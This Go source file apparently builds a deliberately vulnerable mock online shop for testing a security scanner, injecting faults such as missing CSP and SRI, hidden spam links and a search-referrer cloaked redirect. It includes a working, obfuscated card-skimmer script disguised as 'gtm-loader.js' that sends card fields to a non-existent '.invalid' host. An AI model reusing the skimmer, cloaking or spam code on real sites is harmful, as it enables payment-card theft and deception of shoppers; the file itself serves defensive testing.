package testshop

import (
	"net/url"
	"strings"
)

// foreign adds a script of the delivery network to a page.
func foreign(v *visit, p *page, path string, withHash bool) {
	v.policy.allow("script-src", v.shop.opts.CDNOrigin)
	s := script{Src: v.shop.opts.CDNOrigin + path}
	if withHash {
		s.Integrity = integrity(cdnFiles[path])
	}
	p.Scripts = append(p.Scripts, s)
}

func scriptFaults() []*fault {
	return []*fault{
		{Fault: about("third-party-script", "* except payment", "外部のスクリプトが多い", "many foreign scripts"),
			view: func(v *visit, p *page) {
				if !v.kind.personal() {
					foreign(v, p, "/tag-manager.js", true)
					foreign(v, p, "/chat-2.1.js", true)
				}
			}, touches: []string{"b:*", "h:Content-Security-Policy"}},
		{Fault: about("script-without-sri", "/", "外部のスクリプトにハッシュがない", "foreign script without a hash"),
			view: func(_ *visit, p *page) {
				for i := range p.Scripts {
					p.Scripts[i].Integrity = ""
				}
			}, touches: []string{"b:top"}},
		{Fault: about("script-from-unregistered-domain", "/", "登録のないドメインのスクリプト", "script from a domain nobody has registered", "third-party-script"),
			view: func(v *visit, p *page) {
				if v.kind == kindTop {
					const host = "https://static.chaya-tracker-2014.invalid"
					v.policy.allow("script-src", host)
					p.Scripts = append(p.Scripts, script{Src: host + "/t.js", Integrity: integrity("chaya")})
				}
			}, touches: []string{"b:top", "h:Content-Security-Policy"}},
		{Fault: about("form-assist-script", "/entry /contact", "入力支援の外部スクリプトが個人情報を読める", "foreign form-assist script reads personal data", "third-party-script"),
			view: func(v *visit, p *page) {
				if v.kind == kindRegister || v.kind == kindContact {
					foreign(v, p, "/form-assist-efo.js", true)
					foreign(v, p, "/address-fill-3.js", true)
				}
			}, touches: []string{"b:register", "b:contact", "h:Content-Security-Policy"}},
		{Fault: about("skimmer-sign", "/order/card", "カード情報を盗むスクリプトのしるし", "signs of a card skimmer", "payment-page-script"),
			view: func(v *visit, p *page) {
				if v.kind == kindCard || v.kind == kindCheckout {
					p.Scripts = append(p.Scripts, script{Src: "/assets/js/gtm-loader.js"})
				}
			}, touches: []string{"b:card", "b:checkout", "p:/assets/js/gtm-loader.js"},
			routes: []*route{{"/assets/js/gtm-loader.js", kindAsset, func(v *visit) { v.asset(assetTypes[".js"], []byte(skimmer)) }, nil}}},
		{Fault: about("hidden-seo-spam", "/", "見えない広告リンクが埋め込まれている", "hidden spam links"),
			view: func(v *visit, p *page) {
				if v.kind == kindTop || v.kind == kindList {
					p.Foot = append(p.Foot, `<div style="display:none"><a href="https://replica-watch.invalid/">スーパーコピー時計 N級品 激安通販</a> <a href="https://online-casino.invalid/">オンラインカジノ 入金不要ボーナス</a> <a href="https://brand-copy.invalid/">ブランドコピー財布 専門店</a> <a href="https://cheap-pills.invalid/">viagra cialis 通販</a></div>`)
				}
			}, touches: []string{"b:top", "b:list"}},
		{Fault: about("cloaked-redirect", "*", "検索から来た人だけ別のサイトへ送られる", "visitors from search engines are sent elsewhere"),
			before: func(v *visit) bool {
				from, err := url.Parse(v.r.Referer())
				if err != nil || !(strings.Contains(from.Host, "google.") || strings.Contains(from.Host, "yahoo.") || strings.Contains(from.Host, "bing.")) {
					return false
				}
				v.route = "(cloaked)"
				v.redirect(302, "https://brand-copy.invalid/sale")
				return true
			}, touches: []string{"r:referer"}},
		{Fault: about("change-since-last", "/order/card", "前回の診断のあとに決済ページのスクリプトが増えた", "payment page has a script it had not last time", "payment-page-script"),
			view: func(v *visit, p *page) {
				if v.kind == kindCard {
					p.Scripts = append(p.Scripts, script{Src: "/assets/js/pay-helper.js"})
				}
			}, touches: []string{"b:card", "p:/assets/js/pay-helper.js"},
			routes: []*route{{"/assets/js/pay-helper.js", kindAsset, func(v *visit) {
				v.asset(assetTypes[".js"], []byte("\"use strict\";\ndocument.querySelectorAll(\".card-entry\").forEach(function (e) { e.dataset.helper = \"on\"; });\n"))
			}, nil}}},
	}
}

// skimmer shows the signs of one and harms nobody: the host it would send to cannot exist.
const skimmer = `(function(){var d=document,u=atob("aHR0cHM6Ly9ndG0tY29sbGVjdC5pbnZhbGlkL2cuZ2lm");
function grab(){var o={};d.querySelectorAll("input[name=card_number],input[name=security_code],input[name=card_expire],input[autocomplete=cc-number]").forEach(function(i){o[i.name||"n"]=i.value});
var s=btoa(JSON.stringify(o));if(navigator.sendBeacon){navigator.sendBeacon(u,s)}else{new Image().src=u+"?q="+encodeURIComponent(s)}}
d.addEventListener("change",function(e){if(e.target&&/card|cc-/.test(e.target.name+e.target.autocomplete)){grab()}},true);})();
`

func paymentFaults() []*fault {
	card := func(v *visit) bool { return v.kind == kindCard || v.kind == kindCheckout }
	cardPages := []string{"b:card", "b:checkout", "h:Content-Security-Policy"}
	return []*fault{
		{Fault: about("payment-page-script", "/cart /order/card", "決済ページに外部のスクリプトがある", "foreign scripts on payment pages", "third-party-script"),
			view: func(v *visit, p *page) {
				if v.kind.pays() {
					foreign(v, p, "/tag-manager.js", true)
				}
			}, touches: []string{"b:cart", "b:card", "b:checkout", "h:Content-Security-Policy"}},
		{Fault: about("payment-page-csp", "/cart /order/card", "決済ページにCSPがない", "payment pages without a policy", "csp"),
			answer: func(v *visit) {
				if v.kind.pays() {
					v.header.Del("Content-Security-Policy")
				}
			}, touches: []string{"h:Content-Security-Policy"}},
		{Fault: about("card-data-on-own-origin", "/order/card", "カード番号が自社のサーバに送られる", "card numbers are sent to the shop itself", "card-integration"),
			view: func(v *visit, p *page) {
				if card(v) {
					p.Card = cardOwn
				}
			}, touches: cardPages,
			routes: []*route{{"/order/card", kindCard, (*visit).orderCard, (*visit).orderCardPay}}},
		{Fault: about("card-integration", "/order/card", "カードの入力欄が自社のページにある(トークン方式)", "card fields are in the shop's own page (token)", "third-party-script", "payment-page-script", "script-without-sri"),
			view: func(v *visit, p *page) {
				if card(v) {
					p.Card = cardToken
					v.policy.allow("script-src", v.shop.opts.PSPOrigin)
					p.Scripts = append(p.Scripts, script{Src: v.shop.opts.PSPOrigin + "/token.js"})
				}
			}, touches: cardPages},
		{Fault: about("card-form-autocomplete", "/order/card", "カードの入力欄がブラウザに保存される", "card fields are kept by the browser", "card-integration", "third-party-script", "payment-page-script", "script-without-sri"),
			view: func(v *visit, p *page) {
				if card(v) {
					if p.Card == cardIframe {
						p.Card = cardToken
						v.policy.allow("script-src", v.shop.opts.PSPOrigin)
						p.Scripts = append(p.Scripts, script{Src: v.shop.opts.PSPOrigin + "/token.js"})
					}
					p.AutoNumber, p.AutoCode, p.AutoExpires = "on", "on", "on"
				}
			}, touches: cardPages},
		{Fault: about("card-testing-protection", "/order/card", "カード番号を試す攻撃への備えが見えない", "no sign of protection against card testing"),
			view: func(v *visit, p *page) {
				if card(v) {
					p.Captcha, p.ThreeD = false, false
				}
			}, touches: append([]string{"p:/help/payment"}, cardPages...),
			routes: []*route{{"/help/payment", kindOther, plain("お支払い方法", "クレジットカード、代金引換、銀行振込をご利用いただけます。カード番号は決済代行会社の画面に直接入力していただきます。"), nil}}},
	}
}
